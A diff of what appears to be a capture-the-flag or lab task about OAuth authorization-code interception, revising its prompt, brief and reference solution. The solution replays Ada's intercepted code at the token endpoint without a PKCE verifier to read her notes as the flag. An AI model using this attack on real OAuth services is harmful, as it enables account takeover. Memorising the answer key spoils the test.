@@ -42,9 +42,8 @@ TARGET = Target(
         ),
     },
     (
-        "You have four attacks. Try each: does Ada's browser end in Tom's account, does a code "
-        "arrive at tom.test, what becomes of Ada's answer in Tom's browser, does a code that Tom "
-        "reads open anything?",
+        "You have two attacks, and four with the long path. Try each on the diary: does a code that "
+        "Tom reads open anything, and does Ada's browser end in Tom's account?",
         "A client can send code_challenge to a provider that does not know PKCE. What does "
         "https://login.example/.well-known/openid-configuration say of "
         "code_challenge_methods_supported?",
@@ -54,23 +53,18 @@ TARGET = Target(
     ),
     code("""
         seen = parameters(scene.ada_signs_in())
-        asked = {
-            "grant_type": "authorization_code",
-            "client_id": "diary",
-            "code": seen["code"],
-            "redirect_uri": "https://diary.example/cb",
-        }
-        tokens = scene.tom.post(LOGIN + "/token", data=asked).json()
-        notes = api_request(scene.tom, tokens["access_token"]).json()["notes"]
-        flag = notes[0]
+        callback = "https://diary.example/cb"
+        tokens = token_request(scene.tom, seen["code"], "", callback, client_id="diary").json()
+        flag = api_request(scene.tom, tokens["access_token"]).json()["notes"][0]
     """),
     brief=(
         "https://diary.example is another client of login.example: client ID diary, redirect URI "
-        "https://diary.example/cb, scope notes, paths /login, /cb and /. PKCE, state, the session, "
-        "exact redirect matching: one of the four is missing, and nobody says which. scene.tom is "
-        "Tom's browser. scene.ada_signs_in() lets Ada sign in, and gives the redirect that Tom "
-        "reads before the diary does. scene.ada_opens(url) lets Ada open a link, and gives the "
-        "addresses that then arrive below tom.test. The flag is the first of Ada's notes."
+        "https://diary.example/cb, scope notes, paths /login, /cb and /. One defence of this flow is "
+        "missing, at the client or at the provider. scene.tom is Tom's browser. scene.ada_signs_in() "
+        "lets Ada sign in, and returns the redirect that Tom reads before the diary does. "
+        "scene.ada_opens(url) lets Ada open a link, and returns the addresses that then arrive at "
+        "hosts below tom.test. token_request takes the client's ID as client_id=. The flag is the "
+        "first of Ada's notes."
     ),
     scene=stage.diary,
 )
